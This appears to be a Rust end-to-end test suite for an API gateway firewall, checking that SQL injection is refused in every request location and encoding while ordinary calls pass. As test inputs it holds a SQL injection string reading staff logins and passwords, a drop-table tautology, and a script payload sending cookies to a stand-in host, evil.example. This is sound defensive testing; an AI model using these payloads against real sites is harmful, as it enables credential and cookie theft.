//! Native detection in the running gate: attacks are refused wherever they stand, ordinary calls pass, and what the
//! operator says about thresholds, classes, exceptions and sizes holds.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a failure here is a failed test"
)]

use std::io::Write as _;

use http::Method;
use portcullis_e2e::{Answer, Caller, Gate, GateBuilder, SHOP, Upstream, rules};

const INJECTION: &str = "x' UNION SELECT login, pass FROM staff -- ";

fn gate(upstream: &Upstream, api: &str) -> GateBuilder {
    let config = format!(
        "
listen: 127.0.0.1:0
admin: {{ address: 127.0.0.1:0 }}
tls: off
apis:
  shop:
    spec: none
    auth: anonymous
    upstream: {}
{api}",
        upstream.url()
    );
    Gate::new(&config)
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

async fn post(caller: &mut Caller, media: &str, body: impl Into<bytes::Bytes>) -> Answer {
    caller.call(Method::POST, "/notes", &[("content-type", media)], body).await
}

#[tokio::test]
async fn an_attack_is_refused_wherever_it_stands() {
    let upstream = Upstream::agreeable().await;
    let gate = gate(&upstream, "").start().await;
    let mut caller = Caller::of(gate.address());
    let json = serde_json::json!({ "lines": [{ "note": INJECTION }] }).to_string();
    let form = format!("a=1&note={}", encoded(INJECTION));
    let parts =
        format!("--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{INJECTION}\r\n--b--\r\n");
    let xml = format!("<order><note>{}</note></order>", INJECTION.replace('\'', "&apos;"));
    let calls = [
        ("query", format!("/notes?q={}", encoded(INJECTION))),
        ("path", format!("/notes/{}", encoded(INJECTION))),
        ("twice", format!("/notes?q={}", encoded(&encoded(INJECTION)))),
    ];
    for (name, target) in &calls {
        let answer = caller.get(target).await;
        assert_eq!(answer.status, 403, "{name}: {}", answer.text());
        assert!(!answer.text().contains("sql"), "a client is told no more than that: {}", answer.text());
    }
    assert_eq!(caller.call(Method::GET, "/notes", &[("x-filter", INJECTION)], "").await.status, 403);
    assert_eq!(
        caller
            .call(Method::GET, "/notes", &[("cookie", &format!("a={}", encoded(INJECTION)))], "")
            .await
            .status,
        403
    );
    for (media, body) in [
        ("application/json", json.as_str()),
        ("application/x-www-form-urlencoded", &form),
        ("multipart/form-data; boundary=b", &parts),
        ("application/xml", &xml),
        ("text/plain", INJECTION),
        // It lies about its type.
        ("text/plain", &json),
    ] {
        let answer = post(&mut caller, media, body.to_owned()).await;
        assert_eq!(answer.status, 403, "{media}: {body}");
    }
    assert_eq!(upstream.seen_count(), 0);
    let events = gate.events(11).await;
    assert!(
        events.iter().all(|event| rules(event).iter().any(|rule| rule.starts_with("attacks/sql/"))),
        "{events:#?}"
    );
    assert_eq!(events[5]["reasons"][0]["evidence"][0]["place"]["body"], "/lines/0/note");
}

#[tokio::test]
async fn a_text_that_says_it_is_an_image_is_looked_at_and_an_image_passes() {
    let upstream = Upstream::agreeable().await;
    let gate = gate(&upstream, "    size: { body: 4MiB }\n").start().await;
    let mut caller = Caller::of(gate.address());
    let json = serde_json::json!({ "note": INJECTION }).to_string();
    for media in ["image/png", "application/octet-stream", "application/zip"] {
        assert_eq!(post(&mut caller, media, json.clone()).await.status, 403, "{media}");
    }
    let mut image = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
    image.extend((0..3_000_000_u32).map(|at| (at.wrapping_mul(2_654_435_761) >> 24) as u8));
    let answer = post(&mut caller, "image/png", image.clone()).await;
    assert_eq!(answer.status, 200, "larger than what is looked at, and nothing to look at");
    assert_eq!(upstream.seen()[0].body, image);
}

#[tokio::test]
async fn ordinary_calls_pass() {
    let upstream = Upstream::agreeable().await;
    let gate = gate(&upstream, "").start().await;
    let mut caller = Caller::of(gate.address());
    for target in [
        "/notes?q=red+shoes&page=2&sort=-created",
        "/users/O'Brien",
        "/search?q=select+a+union+representative",
    ] {
        assert_eq!(caller.get(target).await.status, 200, "{target}");
    }
    let body = serde_json::json!({
        "title": "Having friends over is nice; or not",
        "hook": "https://hooks.example.com/in?token=abc",
        "message": "Use `SELECT` wisely & don't drop the table; cats > dogs",
        "body": "## Fix\n\n```sql\nSELECT id FROM orders WHERE note = 'x';\n```\n",
    });
    let answer = post(&mut caller, "application/json", body.to_string()).await;
    assert_eq!(answer.status, 200, "{}", gate.events(4).await[3]);
}

#[tokio::test]
async fn mode_threshold_and_classes_are_the_operators() {
    let upstream = Upstream::agreeable().await;
    for (firewall, status) in [
        ("report", 200),
        ("off", 200),
        ("{ threshold: 1000 }", 200),
        ("{ ignore: [sql] }", 200),
        ("{ ignore: [ldap] }", 403),
        ("block", 403),
    ] {
        let gate = gate(&upstream, &format!("    firewall: {firewall}\n")).start().await;
        let mut caller = Caller::of(gate.address());
        let answer = caller.get(&format!("/notes?q={}", encoded(INJECTION))).await;
        assert_eq!(answer.status, status, "{firewall}");
        let seen = !rules(&gate.events(1).await[0]).is_empty();
        assert_eq!(seen, !matches!(firewall, "off" | "{ ignore: [sql] }"), "{firewall}");
    }
}

#[tokio::test]
async fn an_exception_holds_for_its_rule_and_field_only() {
    let upstream = Upstream::agreeable().await;
    let except = "    except:\n      - { rule: attacks/sql, field: /note, why: queries are stored here }\n";
    let gate = gate(&upstream, except).start().await;
    let mut caller = Caller::of(gate.address());
    let note = |field: &str, text: &str| serde_json::json!({ field: text }).to_string();
    assert_eq!(post(&mut caller, "application/json", note("note", INJECTION)).await.status, 200);
    assert_eq!(post(&mut caller, "application/json", note("title", INJECTION)).await.status, 403);
    let script = "<script>fetch('//evil.example/'+document.cookie)</script>";
    assert_eq!(post(&mut caller, "application/json", note("note", script)).await.status, 403);
}

#[tokio::test]
async fn what_the_schema_proves_is_not_looked_at() {
    let upstream = Upstream::agreeable().await;
    let spec = SHOP.replace("item: { type: string }", "item: { enum: [\"1 or 1=1; drop table x\", b] }");
    let config = format!(
        "
listen: 127.0.0.1:0
tls: off
apis: {{ shop: {{ spec: shop.yaml, auth: anonymous, upstream: {} }} }}
",
        upstream.url()
    );
    let gate = Gate::new(&config).file("shop.yaml", spec).start().await;
    let mut caller = Caller::of(gate.address());
    let answer = caller.send(Method::POST, "/orders", r#"{"item": "1 or 1=1; drop table x"}"#).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
}

#[tokio::test]
async fn a_coded_body_is_read_within_its_bound() {
    let upstream = Upstream::agreeable().await;
    let gate = gate(&upstream, "    firewall: { inspect: 64KiB }\n").start().await;
    let mut caller = Caller::of(gate.address());
    let zipped = |bytes: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(bytes).unwrap();
        encoder.finish().unwrap()
    };
    let coded = [("content-type", "application/json"), ("content-encoding", "gzip")];
    let attack = serde_json::json!({ "note": INJECTION }).to_string();
    for (body, status) in [
        (zipped(br#"{"note": "hello"}"#), 200),
        (zipped(attack.as_bytes()), 403),
        (zipped(&vec![b' '; 5_000_000]), 413),
        (b"{}".to_vec(), 400),
    ] {
        assert_eq!(caller.call(Method::POST, "/notes", &coded, body).await.status, status);
    }
    let unknown = [("content-type", "application/json"), ("content-encoding", "br")];
    assert_eq!(caller.call(Method::POST, "/notes", &unknown, "x").await.status, 415);
    // What came is what is sent on.
    assert_eq!(upstream.seen()[0].body, zipped(br#"{"note": "hello"}"#));
}

#[tokio::test]
async fn a_body_beyond_inspection_is_dealt_with_as_stated() {
    let upstream = Upstream::agreeable().await;
    let large = serde_json::json!({ "pad": "x".repeat(4_000), "note": INJECTION }).to_string();
    let early = serde_json::json!({ "note": INJECTION, "pad": "x".repeat(4_000) }).to_string();
    for (beyond, statuses, rule) in [
        ("refuse", [413, 413], "attacks/body_beyond_inspection"),
        ("prefix", [200, 403], "attacks/body_partly_inspected"),
        ("schema_only", [200, 200], "attacks/body_not_inspected"),
    ] {
        let firewall = format!("    firewall: {{ inspect: 2KiB, beyond: {beyond} }}\n");
        let gate = gate(&upstream, &firewall).start().await;
        let mut caller = Caller::of(gate.address());
        assert_eq!(
            post(&mut caller, "application/json", large.clone()).await.status,
            statuses[0],
            "{beyond}"
        );
        assert_eq!(
            post(&mut caller, "application/json", early.clone()).await.status,
            statuses[1],
            "{beyond}"
        );
        let events = gate.events(2).await;
        assert!(rules(&events[0]).contains(&rule), "{beyond}: {:?}", rules(&events[0]));
    }
}

#[tokio::test]
async fn odd_bodies_are_looked_at_all_the_same() {
    let upstream = Upstream::agreeable().await;
    let gate = gate(&upstream, "").start().await;
    let mut caller = Caller::of(gate.address());
    let deep = format!("{}\"{INJECTION}\"{}", "[".repeat(10_000), "]".repeat(10_000));
    let truncated = format!("{{\"a\": 1, \"note\": \"{INJECTION}\"");
    let twice = format!("{{\"note\": \"{INJECTION}\", \"note\": \"fine\"}}");
    let half = format!("--b\r\ncontent-disposition: form-data; name=\"note\"\r\n\r\n{INJECTION}");
    let mut invalid = format!("{{\"note\": \"{INJECTION}").into_bytes();
    invalid.extend(b"\xff\xfe\"}");
    for (media, body) in [
        ("application/json", deep.into_bytes()),
        ("application/json", truncated.into_bytes()),
        ("application/json", twice.into_bytes()),
        ("application/json", invalid),
        ("multipart/form-data; boundary=b", half.into_bytes()),
        ("multipart/form-data", INJECTION.as_bytes().to_vec()),
        ("nonsense", INJECTION.as_bytes().to_vec()),
    ] {
        let answer = post(&mut caller, media, body.clone()).await;
        assert_eq!(
            answer.status,
            403,
            "{media}: {}",
            String::from_utf8_lossy(&body).chars().take(80).collect::<String>()
        );
    }
    assert_eq!(upstream.seen_count(), 0);
}
